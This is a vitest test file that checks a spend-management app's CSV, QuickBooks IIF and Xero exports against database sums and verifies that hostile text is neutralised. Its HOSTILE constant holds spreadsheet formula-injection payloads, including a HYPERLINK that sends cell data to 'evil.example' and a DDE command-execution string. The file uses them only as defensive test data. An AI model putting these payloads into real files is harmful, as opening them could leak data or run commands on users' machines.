import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { syncCommitSchema, type SyncCommit } from '../../schema/api/calls-accounting.ts';
import { toMinorUnits } from '../../schema/money.ts';
import { testDatabases } from '../test-db.ts';
import { useTestApp } from '../test-app.ts';
import { makeBusiness, request, signIn, type Fixture } from '../test-fixtures.ts';

/**
 * Issue 25 items 2, 3 and 5: exports that book what happened, read back by parsers that are not the
 * exporter's — csv-parse (a registry CSV parser; the writers use papaparse) for the generic CSV and
 * the Xero statements, and the IIF reader below — and checked against the database rows with SQL
 * written here, per currency:
 * - the generic CSV and the IIF files book every coded, approved item (the ledger view); IIF is one
 *   file per currency named with its code, every TRNS/SPL/ENDTRNS block balances, and the
 *   balance-sheet accounts outside the home currency carry the code;
 * - the Xero statements book only money that moved (cleared charges, SETTLED bill payments, paid
 *   claims whose payment settled), one file per account (corporate card, bank account) and currency:
 *   no unpaid, manually paid or pending bill, no unpaid or unsettled claim, no pending, declined or
 *   reversed charge;
 * - hostile text in payee, invoice number and memo comes out neutralised in all three formats, and
 *   amounts stay plain numbers (negative ones too).
 */

const NOW = '2026-11-27T04:00:00Z';
const ACC = '/v1/auth/accounting';
const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", '\uff0b1', '\t=1', ' @x'];
const NUMBER = /^-?\d+(\.\d+)?$/;
/** What a spreadsheet would run: after leading whitespace, = + - @ (or full-width), or a tab/CR among the whitespace. */
const RUNS = /^[\s\u00a0\u3000\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\s\u00a0\u3000\u200b\ufeff]*[\t\r]/;
const safe = (cell: string) => cell.startsWith("'") || !RUNS.test(cell);
/** A seeded hostile text as a file must hold it: one line, trimmed, then a leading apostrophe. */
const neutral = (text: string) => `'${text.replace(/[\u0000-\u001f]+/g, ' ').replace(/ {2,}/g, ' ').trim()}`;
/** The same in an IIF file: double quotes become single ones, and what Windows-1252 lacks reads "?". */
const neutralIif = (text: string) => neutral(text).replace(/"/g, "'").replace(/\uff0b/g, '?');

/** An IIF reader written for this test: tab-separated rows, the !TRNS/!SPL header rows, TRNS + SPL… + ENDTRNS blocks. */
function readIif(bytes: ArrayBuffer) {
  const rows = new TextDecoder('windows-1252').decode(bytes).split('\r\n').filter((r) => r !== '').map((r) => r.split('\t'));
  const trnsHeader = rows.find((r) => r[0] === '!TRNS')!;
  const splHeader = rows.find((r) => r[0] === '!SPL')!;
  expect(rows.some((r) => r[0] === '!ENDTRNS')).toBe(true);
  const col = (name: string) => trnsHeader.indexOf(name);
  expect(splHeader.slice(1)).toEqual(trnsHeader.slice(1));
  const blocks: { trns: string[]; spl: string[][] }[] = [];
  let open: { trns: string[]; spl: string[][] } | null = null;
  for (const r of rows.filter((row) => !row[0]!.startsWith('!'))) {
    if (r[0] === 'TRNS') {
      expect(open, 'a TRNS inside an open block').toBeNull();
      open = { trns: r, spl: [] };
    } else if (r[0] === 'SPL') open!.spl.push(r);
    else if (r[0] === 'ENDTRNS') {
      blocks.push(open!);
      open = null;
    } else throw new Error(`unexpected IIF row ${r.join('|')}`);
  }
  expect(open, 'a block left open').toBeNull();
  return { col, width: trnsHeader.length, blocks };
}

type Sums = Record<string, number>;
const add = (sums: Sums, key: string, n: number) => ({ ...sums, [key]: (sums[key] ?? 0) + n });

describe.each(await testDatabases())('exports read back by independent parsers on %s', (kind) => {
  const t = useTestApp(kind, { now: () => Date.parse(NOW) });
  let a: Fixture;
  let admin: string;
  const call = (method: string, path: string, body?: unknown) => request(t.app, method, path, { token: admin, ...(body !== undefined && { body }) });
  const q = <T>(sql: string, params: unknown[] = []) => t.db.query<T>(sql, params);
  /** Bills by their role in the test. */
  const bills: Record<string, { id: string; currency: string; amount: number; invoice: string; vendor: string; memo: string }> = {};
  const claims: Record<string, { id: string; currency: string; amount: number; memo: string }> = {};

  beforeAll(async () => {
    a = await makeBusiness(t.db, { transactions: 24 });
    admin = await signIn(t.app, a.email('admin'));
    const gl = a.glAccounts.active[0]!;
    // Card charges in three currencies; every one coded except the last. i % 4: 0 GBP, 1 EUR, else USD.
    // Not spend: 3 PENDING (USD), 4 DECLINED (GBP), 5 REVERSED (EUR); 8 (GBP) a refund.
    for (const [i, id] of a.allTransactions.entries()) {
      const currency = i % 4 === 0 ? 'GBP' : i % 4 === 1 ? 'EUR' : 'USD';
      const state = i === 3 ? 'PENDING' : i === 4 ? 'DECLINED' : i === 5 ? 'REVERSED' : 'CLEARED';
      await q(
        `UPDATE transactions SET currency = $2, state = $3, gl_account_id = $4, amount = CASE WHEN $5 THEN -1250 ELSE abs(amount) END WHERE id = $1`,
        [id, currency, state, i === 23 ? null : gl, i === 8],
      );
    }
    // Hostile merchants (payee) and memos on cleared charges of each currency.
    for (const [k, i] of [0, 1, 2, 6, 7].entries()) {
      await q('UPDATE transactions SET merchant_name = $2, memo = $3 WHERE id = $1', [a.allTransactions[i], HOSTILE[k], HOSTILE[(k + 1) % 5]]);
    }
    // Bills: hostile vendor name, invoice number and memo on each.
    const billCases = [
      ['unpaid', 'USD', 'APPROVED', null],
      ['settledUsd', 'USD', 'PAID', 'SETTLED'],
      ['settledGbp', 'GBP', 'PAID', 'SETTLED'],
      ['paidManually', 'GBP', 'PAID', null],
      ['pending', 'EUR', 'SCHEDULED', 'PENDING'],
    ] as const;
    for (const [k, [role, currency, status, payment]] of billCases.entries()) {
      const v = await call('POST', '/v1/auth/vendors', { name: `Vendor ${k}` });
      expect(v.status, v.text).toBe(201);
      const amount = 10_000 + k * 1_111;
      const b = await call('POST', '/v1/auth/bill-pay', {
        vendor_id: v.body.id, invoice_number: `INV-${k}`, invoice_date: '2026-11-02', due_date: '2026-11-30', currency: 'USD',
        line_items: [{ description: 'Paper', amount: amount - 1_000, gl_account_id: gl }, { description: 'Toner', amount: 1_000, gl_account_id: a.glAccounts.active[1] }],
      });
      expect(b.status, b.text).toBe(200);
      const [vendor, invoice, memo] = [HOSTILE[k]!, HOSTILE[(k + 2) % 5]!, HOSTILE[(k + 3) % 5]!];
      await q('UPDATE vendors SET name = $2 WHERE id = $1', [v.body.id, vendor]);
      await q(`UPDATE bills SET status = $2, currency = $3, invoice_number = $4, memo = $5, paid_manually = $6 WHERE id = $1`,
        [b.body.id, status, currency, invoice, memo, role === 'paidManually']);
      if (payment) {
        await q(
          `INSERT INTO bill_payments (id, business_id, bill_id, attempt, payment_key, amount, currency, status, created_by, created_at, updated_at, settles_on, settled_at)
           VALUES ($1, $2, $3, 1, $4, $5, $6, $7, $8, '2026-11-20T09:00:00Z', '2026-11-21T15:30:00Z', '2026-11-24',
                   CASE WHEN $7 = 'SETTLED' THEN '2026-11-21T15:30:00Z'::timestamptz END)`,
          [randomUUID(), a.businessId, b.body.id, `test-${b.body.id}`, amount, currency, payment, a.users.admin],
        );
      }
      bills[role] = { id: b.body.id, currency, amount, invoice, vendor, memo };
    }
    // Claims: approved and unpaid; paid and settled (USD, EUR); paid but not settled yet (GBP).
    await q('UPDATE spend_users SET first_name = $2 WHERE id = $1', [a.users.employee, ' @x']);
    const claimCases = [
      ['unpaid', 'USD', 'APPROVED', null],
      ['settledUsd', 'USD', 'PAID', '2026-11-20T12:00:00Z'],
      ['settledEur', 'EUR', 'PAID', '2026-11-22T12:00:00Z'],
      ['unsettled', 'GBP', 'PAID', '2026-11-29T12:00:00Z'],
    ] as const;
    for (const [k, [role, currency, status, settles]] of claimCases.entries()) {
      const id = randomUUID();
      const amount = 2_000 + k * 37;
      const memo = HOSTILE[(k + 4) % 5]!;
      await q(
        `WITH seq AS (UPDATE businesses SET change_seq = change_seq + 1 WHERE id = $2 RETURNING change_seq)
         INSERT INTO reimbursements (id, business_id, user_id, type, status, merchant, memo, amount, currency, transaction_date, gl_account_id, change_seq)
         SELECT $1, $2, $3, 'OUT_OF_POCKET', $4, 'Taxi', $5, $6, $7, '2026-11-03', $8, change_seq FROM seq`,
        [id, a.businessId, a.users.employee, status, memo, amount, currency, gl],
      );
      if (settles) {
        await q(
          `INSERT INTO ledger_entries (id, business_id, reimbursement_id, user_id, kind, method, amount, currency, created_by, created_at, settles_at)
           VALUES ($1, $2, $3, $4, 'PAYMENT', 'ACH', $5, $6, $7, $8::timestamptz - interval '3 days', $8)`,
          [randomUUID(), a.businessId, id, a.users.employee, amount, currency, a.users.admin, settles],
        );
      }
      claims[role] = { id, currency, amount, memo };
    }
  });

  /** What the ledgers book, from the rows (the rules of issue 12, in SQL written here): sums by currency and kind. */
  async function ledgerSums(): Promise<{ byCurrency: Sums; byKind: Sums; count: number }> {
    const rows = await q<{ kind: string; currency: string; total: string; n: string }>(
      `SELECT 'transaction' AS kind, currency, sum(amount) AS total, count(*) AS n FROM transactions
        WHERE business_id = $1 AND state = 'CLEARED' AND gl_account_id IS NOT NULL AND NOT deleted GROUP BY currency
       UNION ALL
       SELECT 'bill', currency, sum(amount), count(*) FROM bills b
        WHERE business_id = $1 AND status IN ('APPROVED', 'SCHEDULED', 'PAID', 'RECONCILED') AND NOT deleted
          AND NOT EXISTS (SELECT 1 FROM bill_line_items li WHERE li.bill_id = b.id AND li.gl_account_id IS NULL) GROUP BY currency
       UNION ALL
       SELECT 'reimbursement', currency, sum(amount), count(*) FROM reimbursements
        WHERE business_id = $1 AND status IN ('APPROVED', 'PAID') AND gl_account_id IS NOT NULL AND NOT deleted GROUP BY currency`,
      [a.businessId],
    );
    let byCurrency: Sums = {};
    let byKind: Sums = {};
    for (const r of rows) {
      byCurrency = add(byCurrency, r.currency, Number(r.total));
      byKind = add(byKind, `${r.kind} ${r.currency}`, Number(r.total));
    }
    return { byCurrency, byKind, count: rows.reduce((s, r) => s + Number(r.n), 0) };
  }

  /** What a bank statement books: money that moved, by account and currency, with each line's reference. */
  async function movedSums(): Promise<{ byStatement: Sums; count: number }> {
    const rows = await q<{ account: string; currency: string; total: string; n: string }>(
      `SELECT 'card' AS account, currency, sum(amount) AS total, count(*) AS n FROM transactions
        WHERE business_id = $1 AND state = 'CLEARED' AND gl_account_id IS NOT NULL AND NOT deleted GROUP BY currency
       UNION ALL
       SELECT 'bank', currency, sum(amount), count(*) FROM (
         SELECT b.currency, b.amount FROM bills b JOIN bill_payments p ON p.bill_id = b.id AND p.status = 'SETTLED'
          WHERE b.business_id = $1 AND NOT b.deleted
         UNION ALL
         SELECT r.currency, r.amount FROM reimbursements r JOIN ledger_entries le ON le.reimbursement_id = r.id
          WHERE r.business_id = $1 AND r.status = 'PAID' AND le.kind = 'PAYMENT' AND NOT le.reversed AND le.settles_at <= $2 AND NOT r.deleted
       ) paid GROUP BY currency`,
      [a.businessId, NOW],
    );
    return {
      byStatement: Object.fromEntries(rows.map((r) => [`${r.account} ${r.currency}`, Number(r.total)])),
      count: rows.reduce((s, r) => s + Number(r.n), 0),
    };
  }

  /** Commits to `provider`, downloads every file; then marks everything not synced again for the next format. */
  async function commit(provider: string): Promise<{
    commit: SyncCommit; synced: Set<string>; files: { name: string; currency: string | null; account: string | null; bytes: ArrayBuffer; text: string }[];
  }> {
    expect((await call('POST', `${ACC}/providers/${provider}/connect`, {})).status).toBe(200);
    const res = await call('POST', `${ACC}/providers/${provider}/sync_commit`, {});
    expect(res.status, res.text).toBe(201);
    const c = syncCommitSchema.parse(res.body);
    const files = [];
    for (const f of c.files) {
      const got = await t.app.request(f.url, { headers: { 'RAMP-ID-TOKEN': admin } });
      expect(got.status).toBe(200);
      const bytes = await got.arrayBuffer();
      files.push({ name: f.name, currency: f.currency, account: f.statement_account, bytes, text: new TextDecoder().decode(bytes) });
    }
    const items = [
      ...(await q<{ id: string }>('SELECT id::text FROM transactions WHERE business_id = $1 AND accounting_synced_at IS NOT NULL', [a.businessId])).map((r) => ({ type: 'transaction', id: r.id })),
      ...(await q<{ id: string }>('SELECT id::text FROM reimbursements WHERE business_id = $1 AND accounting_synced_at IS NOT NULL', [a.businessId])).map((r) => ({ type: 'reimbursement', id: r.id })),
      ...(await q<{ id: string }>('SELECT id::text FROM bills WHERE business_id = $1 AND accounting_synced_at IS NOT NULL', [a.businessId])).map((r) => ({ type: 'bill', id: r.id })),
    ];
    expect(items.length).toBe(c.item_count);
    const unsync = await call('POST', `${ACC}/mark-not-synced`, { items });
    expect(unsync.status, unsync.text).toBe(200);
    return { commit: c, synced: new Set(items.map((i) => i.id)), files };
  }

  const csvRecords = (text: string) => parse(text, { columns: true, skip_empty_lines: true }) as Record<string, string>[];

  it('generic CSV: every line read back by csv-parse, amounts per currency equal to the rows, text neutralised', async () => {
    const { commit: c, files } = await commit('csv');
    const ledger = await ledgerSums();
    expect(c.item_count).toBe(ledger.count);
    expect(files).toHaveLength(1);
    const rows = csvRecords(files[0]!.text);
    let byCurrency: Sums = {};
    for (const r of rows) {
      expect(r.Amount).toMatch(NUMBER);
      expect(r['Line amount']).toMatch(NUMBER);
      byCurrency = add(byCurrency, r.Currency!, toMinorUnits(r['Line amount']!, r.Currency!)!);
      for (const [column, cell] of Object.entries(r)) if (!['Amount', 'Line amount'].includes(column)) expect(safe(cell), `${column} ${JSON.stringify(cell)}`).toBe(true);
    }
    expect(byCurrency).toEqual(ledger.byCurrency);
    expect(Object.keys(byCurrency).sort()).toEqual(['EUR', 'GBP', 'USD']);
    expect(new Set(rows.map((r) => r['Ledgerline ID'])).size).toBe(ledger.count);
    expect(rows.some((r) => r.Amount === '-12.50' && r.Currency === 'GBP')).toBe(true);
    // Payee, invoice number and memo: each hostile text is there, neutralised.
    const payees = new Set(rows.map((r) => r.Payee));
    const refs = new Set(rows.map((r) => r.Reference));
    const memos = new Set(rows.map((r) => r.Memo));
    for (const h of HOSTILE) expect(payees.has(neutral(h)), `payee ${JSON.stringify(h)}`).toBe(true);
    for (const b of Object.values(bills)) expect(refs.has(neutral(b.invoice)), `invoice ${JSON.stringify(b.invoice)}`).toBe(true);
    for (const h of HOSTILE) expect(memos.has(neutral(h)), `memo ${JSON.stringify(h)}`).toBe(true);
    expect(payees.has(`'@x Fixture${a.businessId.slice(0, 8)}`)).toBe(true);
  });

  it('QuickBooks IIF: one balanced file per currency, named with its code, accounts per currency, sums equal to the rows', async () => {
    expect((await call('PATCH', `${ACC}/preferences`, { iif_card_account: 'Corporate Card' })).status).toBe(200);
    const { commit: c, files } = await commit('quickbooks_desktop');
    const ledger = await ledgerSums();
    expect(c.item_count).toBe(ledger.count);
    expect(files.map((f) => [f.name, f.currency])).toEqual(['EUR', 'GBP', 'USD'].map((cur) => [`ledgerline-quickbooks-20261127-0400-${cur}.iif`, cur]));
    let blocks = 0;
    let byKind: Sums = {};
    const cells: Record<string, Set<string>> = { NAME: new Set(), DOCNUM: new Set(), MEMO: new Set() };
    for (const f of files) {
      const currency = f.currency!;
      const iif = readIif(f.bytes);
      const suffix = currency === 'USD' ? '' : ` ${currency}`;
      for (const { trns, spl } of iif.blocks) {
        blocks++;
        expect(spl.length).toBeGreaterThan(0);
        let sum = 0;
        for (const row of [trns, ...spl]) {
          expect(row.length).toBe(iif.width);
          for (const [i, cell] of row.entries()) {
            if (i === 0) continue;
            if (i === iif.col('AMOUNT')) {
              expect(cell).toMatch(NUMBER);
              sum += toMinorUnits(cell, currency)!;
            } else expect(safe(cell), `IIF ${JSON.stringify(cell)}`).toBe(true);
          }
          for (const name of Object.keys(cells)) cells[name]!.add(row[iif.col(name)]!);
        }
        expect(sum, `block ${trns.join('|')}`).toBe(0);
        const type = trns[iif.col('TRNSTYPE')]!;
        const kindOf = type === 'BILL' ? 'bill' : type === 'GENERAL JOURNAL' ? 'reimbursement' : 'transaction';
        const account = { transaction: 'Corporate Card', bill: 'Accounts Payable', reimbursement: 'Employee Reimbursements Payable' }[kindOf];
        expect(trns[iif.col('ACCNT')]).toBe(`${account}${suffix}`);
        byKind = add(byKind, `${kindOf} ${currency}`, -toMinorUnits(trns[iif.col('AMOUNT')]!, currency)!);
      }
    }
    expect(blocks).toBe(ledger.count);
    expect(byKind).toEqual(ledger.byKind);
    for (const h of HOSTILE) expect(cells.NAME!.has(neutralIif(h)), `NAME ${JSON.stringify(h)}`).toBe(true);
    for (const b of Object.values(bills)) expect(cells.DOCNUM!.has(neutralIif(b.invoice)), `DOCNUM ${JSON.stringify(b.invoice)}`).toBe(true);
    for (const h of HOSTILE) expect(cells.MEMO!.has(neutralIif(h)), `MEMO ${JSON.stringify(h)}`).toBe(true);
  });

  it('Xero: statements only of money that moved, per account and currency, sums equal to the rows, no unpaid bill or claim', async () => {
    const { commit: c, files, synced } = await commit('xero_csv');
    const moved = await movedSums();
    expect(c.item_count).toBe(moved.count);
    expect(files.map((f) => [f.name, f.currency, f.account])).toEqual([
      ['ledgerline-xero-20261127-0400-bank-account-EUR_part-1.csv', 'EUR', 'bank'],
      ['ledgerline-xero-20261127-0400-bank-account-GBP_part-1.csv', 'GBP', 'bank'],
      ['ledgerline-xero-20261127-0400-bank-account-USD_part-1.csv', 'USD', 'bank'],
      ['ledgerline-xero-20261127-0400-corporate-card-EUR_part-1.csv', 'EUR', 'card'],
      ['ledgerline-xero-20261127-0400-corporate-card-GBP_part-1.csv', 'GBP', 'card'],
      ['ledgerline-xero-20261127-0400-corporate-card-USD_part-1.csv', 'USD', 'card'],
    ]);
    let byStatement: Sums = {};
    const all: Record<string, string>[] = [];
    for (const f of files) {
      expect((parse(f.text, { to_line: 1 }) as string[][])[0]).toEqual(['Date', 'Amount', 'Payee', 'Description', 'Reference']);
      for (const r of csvRecords(f.text)) {
        expect(r.Amount).toMatch(NUMBER);
        for (const column of ['Date', 'Payee', 'Description', 'Reference']) expect(safe(r[column]!), `${column} ${JSON.stringify(r[column])}`).toBe(true);
        byStatement = add(byStatement, `${f.account} ${f.currency}`, -toMinorUnits(r.Amount!, f.currency!)!);
        all.push({ ...r, statement: `${f.account} ${f.currency}` });
      }
    }
    expect(byStatement).toEqual(moved.byStatement);
    expect(all).toHaveLength(moved.count);
    // No bill or claim whose money has not moved; the ones that moved are on the bank statement of their currency, dated the day it moved.
    const refs = new Map(all.map((r) => [r.Reference!, r]));
    for (const role of ['unpaid', 'paidManually', 'pending']) expect(refs.has(neutral(bills[role]!.invoice)), `bill ${role}`).toBe(false);
    for (const role of ['unpaid', 'unsettled']) expect(refs.has(claims[role]!.id), `claim ${role}`).toBe(false);
    expect(refs.get(neutral(bills.settledUsd!.invoice))).toMatchObject({ statement: 'bank USD', Date: '21/11/2026', Payee: neutral(bills.settledUsd!.vendor) });
    expect(refs.get(neutral(bills.settledGbp!.invoice))).toMatchObject({ statement: 'bank GBP', Amount: '-122.22' });
    expect(refs.get(claims.settledUsd!.id)).toMatchObject({ statement: 'bank USD', Date: '20/11/2026', Payee: `'@x Fixture${a.businessId.slice(0, 8)}` });
    expect(refs.get(claims.settledEur!.id)).toMatchObject({ statement: 'bank EUR', Date: '22/11/2026' });
    expect(refs.get(claims.settledEur!.id)!.Description!.startsWith(neutral(claims.settledEur!.memo))).toBe(true);
    // Pending, declined and reversed charges and the uncoded one are on no statement.
    for (const i of [3, 4, 5, 23]) expect(refs.has(a.allTransactions[i]!), `transaction ${i}`).toBe(false);
    expect(all.some((r) => r.statement === 'card GBP' && r.Amount === '12.50')).toBe(true);
    // Hostile payees and memos on the card statements, neutralised.
    const payees = new Set(all.map((r) => r.Payee));
    for (const h of HOSTILE) expect(payees.has(neutral(h)), `payee ${JSON.stringify(h)}`).toBe(true);
    for (const h of HOSTILE) expect(all.some((r) => r.Description!.startsWith(neutral(h))), `memo ${JSON.stringify(h)}`).toBe(true);
    // The commit marked only what its files book: the items whose money has not moved wait for a later commit.
    for (const role of ['unpaid', 'paidManually', 'pending']) expect(synced.has(bills[role]!.id), `bill ${role}`).toBe(false);
    for (const role of ['unpaid', 'unsettled']) expect(synced.has(claims[role]!.id), `claim ${role}`).toBe(false);
    expect(synced.has(bills.settledGbp!.id) && synced.has(claims.settledEur!.id)).toBe(true);
  });
});
